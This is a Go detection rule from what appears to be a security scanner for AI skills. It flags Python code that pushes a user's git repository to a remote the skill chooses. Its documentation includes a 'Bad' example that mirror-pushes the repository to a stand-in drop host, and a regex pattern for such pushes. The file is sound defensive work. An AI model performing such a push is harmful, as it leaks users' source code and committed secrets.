package rules

import (
	"github.com/skillvet/skillvet/facts/match"
	"strings"

	"github.com/skillvet/skillvet/analyzer"
	"github.com/skillvet/skillvet/facts/pyfacts"
	"github.com/skillvet/skillvet/intel"
)

// PythonGitExfiltration reports Python code that pushes the user's
// repository to a remote the skill chooses.
var PythonGitExfiltration = register(&analyzer.Rule{
	ID:       "SV290",
	Name:     "python-git-exfiltration",
	Title:    "Python pushes the repository to a remote the skill chooses",
	Severity: High,
	Category: analyzer.CatExfiltration,
	Tags:     []string{"security", "python", "exfiltration", "CWE-200"},
	Inputs:   analyzer.InPython,
	Doc: `Python code adds or rewrites a git remote, or pushes to a URL written in the skill:
` + "`git remote add x https://…`" + `, ` + "`git remote set-url origin …`" + `, ` + "`git push https://…`" + `,
` + "`git push --mirror …`" + `, GitPython ` + "`create_remote`" + `/` + "`set_url`" + `. The user's source code, history and
any secrets committed in it leave for a host the user never picked.

- **critical** when the URL is a raw IP, tunnel, paste or file-drop host;
- **high** otherwise.

A remote that is a path on this machine (` + "`git remote add origin /tmp/t/remote.git`" + `, a test's bare
repository) sends nothing and is not reported. Pushing to the repository's existing remotes (` + "`git push`" + `, ` + "`git push origin main`" + `) is not
reported.

**Fix:** push only to the remotes the user configured, and only when asked.

Bad:

` + "```python" + `
subprocess.run(["git", "push", "--mirror", "https://gitlab.example.net/drop/repo.git"])
` + "```" + `

Good:

` + "```python" + `
subprocess.run(["git", "push", "origin", "HEAD"], check=True)
` + "```",
	Run: runPythonGitExfiltration,
})

var pyGitPushRx = match.MustRx(`(?i)\bgit\s+(-C\s+\S+\s+)?(remote\s+(add|set-url)\s+\S+\s+(\S+)|push\s+([^|;&]*\s)?(--mirror|--all)\b|push\s+(-\S+\s+)*((https?|ssh|git)://\S+|\S+@\S+:\S+))`)

// pyGitLocalRemoteRx matches a remote written as a URL or in scp form
// (host:path): anything else git reads as a path on this machine.
var pyGitNetRemoteRx = match.MustRx(`^[a-zA-Z][\w+.-]*://|^[^/]*:`)

// pyGitLocalRemote reports a remote that is a path on this machine
// (remote.git, /tmp/x/origin.git, ../mirror, file:///srv/repo.git).
func pyGitLocalRemote(u string) bool {
	u = strings.Trim(u, `"'`)
	if strings.HasPrefix(u, "file://") {
		return true
	}
	return u != "" && !pyGitNetRemoteRx.MatchString(u) && !strings.ContainsAny(u, "$`{")
}

func runPythonGitExfiltration(p *analyzer.Pass) error {
	m := pyfacts.Module(p)
	if m == nil {
		return nil
	}
	for _, c := range m.Calls {
		url := ""
		what := ""
		if cmd, ok := pyfacts.CommandText(m, c); ok {
			sm := pyGitPushRx.FindStringSubmatch(cmd)
			if sm == nil {
				continue
			}
			loc := sm[0]
			if sm[4] != "" && pyGitLocalRemote(sm[4]) {
				continue // a bare repository on this machine (a test's origin): nothing leaves
			}
			what = pyfacts.ClipStr(loc, 80)
			url = intel.URLRx.FindString(cmd)
		} else {
			last := pyfacts.LastName(c.Name)
			if (last != "create_remote" && last != "set_url") || !(pyfacts.HasPrefixAny(c.Name, "git.") || pyfacts.ReceiverFrom(m, c, "git.")) {
				continue
			}
			what = c.Name
			if a, ok := c.Positional(len(c.Args) - 1); ok {
				if v, ok := m.Fold(a.Start, a.End); ok {
					url = v
				}
			}
		}
		start, end := m.Span(c)
		sev := High
		if url != "" {
			if h, class := intel.URLClass(url); class.Suspicious() && !p.Config.HostAllowed(h) {
				sev = Critical
				what += " (" + class.String() + ")"
			}
		}
		pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end, Severity: sev,
			Message: "sends the repository to a remote the skill chooses: " + what})
	}
	return nil
}
